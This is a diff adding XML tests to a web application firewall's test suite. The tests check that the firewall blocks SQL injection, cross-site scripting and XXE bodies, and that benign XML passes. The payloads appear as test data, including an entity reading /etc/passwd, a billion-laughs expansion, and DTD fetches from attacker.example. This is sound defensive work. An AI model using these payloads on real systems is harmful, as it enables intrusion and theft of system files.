@@ -115,6 +115,30 @@ t.test('waf, block mode', async (t) => {
         '/query/path/0',
       ],
       [
+        'XML, a quote as a character reference (h2)',
+        () => post('/search', 'application/soap+xml', '<?xml version="1.0"?><r><q>1&#39; OR 1=1 --</q></r>', h2),
+        'warden.input.sqli',
+        '/body/r/q',
+      ],
+      [
+        'XML, markup as entities',
+        () => post('/search', 'text/xml', '<r><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></r>'),
+        'warden.input.xss',
+        '/body/r/note',
+      ],
+      [
+        'XML attribute',
+        () => post('/search', 'application/xml', `<r><item sku="1' OR '1'='1"/></r>`),
+        'warden.input.sqli',
+        '/body/r/item/@sku',
+      ],
+      [
+        'XML CDATA',
+        () => post('/search', 'application/atom+xml', '<r><![CDATA[<script>alert(1)</script>]]></r>'),
+        'warden.input.xss',
+        '/body/r',
+      ],
+      [
         'JSON escapes decoded',
         () => post('/search', 'application/json', '{"q":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'),
         'warden.input.xss',
@@ -230,6 +254,21 @@ t.test('waf, block mode', async (t) => {
       t.equal(lastEvent()['warden.rule'], 'waf.charset', `${what}: rule waf.charset`);
     }
     t.equal(backend.requests.length, before, 'the backend saw none of them');
+    for (const [what, body] of [
+      // Parsers take an XML body's encoding from its byte order mark or its declaration.
+      ['UTF-16 XML by its byte order mark', Buffer.from(`\ufeff<r><q>1' OR 1=1 --</q></r>`, 'utf16le')],
+      ['XML declaring UTF-16', Buffer.from(`<?xml version="1.0" encoding="UTF-16"?><r>x</r>`)],
+    ] as const) {
+      const r = await post('/search', 'application/xml', body);
+      t.equal(r.status, 415, `${what}: 415`);
+      t.equal(lastEvent()['warden.rule'], 'waf.charset', `${what}: rule waf.charset`);
+    }
+    const xml = await post(
+      '/search',
+      'application/xml',
+      `<?xml version="1.0" encoding="UTF-8"?><order><note>O'Brien &amp; Sons</note></order>`,
+    );
+    t.equal(xml.status, 200, 'a UTF-8 XML body without entities passes');
     const latin1 = await post('/search', 'application/x-www-form-urlencoded; charset=iso-8859-1', `q=${encodeURIComponent(SQLI)}`);
     t.equal(latin1.status, 403, 'an ASCII-compatible charset is read, and the attack in it refused');
     const utf8 = await post('/search', 'application/json; charset=UTF-8', JSON.stringify({ note: "O'Brien" }));
@@ -343,6 +382,31 @@ t.test('waf, block mode', async (t) => {
       200,
       'the boundary after a bare line feed, inside content, passes',
     );
+  });
+
+  await t.test('XML: document type declarations that fetch or expand entities, and documents a strict parser refuses', async (t) => {
+    const before = backend.requests.length;
+    for (const [what, body] of [
+      ['external entity (XXE)', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
+      ['entity expansion (billion laughs)', '<!DOCTYPE r [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>'],
+      ['external DTD', '<!DOCTYPE r SYSTEM "https://attacker.example/evil.dtd"><r/>'],
+      ['parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://attacker.example/p.dtd"> %p;]><r/>'],
+    ] as const) {
+      const r = await post('/search', 'application/xml', body, h2);
+      t.equal(r.status, 403, `${what}: 403`);
+      t.equal(lastEvent().name, 'warden.input.xxe', `${what}: warden.input.xxe`);
+      t.equal(lastEvent()['warden.rule'], 'waf.xml_doctype', `${what}: rule waf.xml_doctype`);
+    }
+    const malformed = await post('/search', 'application/xml', '<r><q>unclosed</r>');
+    t.equal(malformed.status, 400, 'malformed XML: 400');
+    t.match(malformed.json(), { code: 'ERR_REQUEST_INVALID', detail: /XML body could not be read/ });
+    t.equal(backend.requests.length, before, 'the backend saw none of them');
+    const plain = await post(
+      '/search',
+      'application/xml',
+      '<!DOCTYPE order><order id="7"><note>O&apos;Brien &amp; Sons, 2 &lt; 3</note></order>',
+    );
+    t.equal(plain.status, 200, 'a DOCTYPE naming only the root, attributes and entities for punctuation pass');
   });
 
   await t.test('a Content-Encoding is undone for the waf (Express inflates gzip bodies); the backend gets the body as sent', async (t) => {
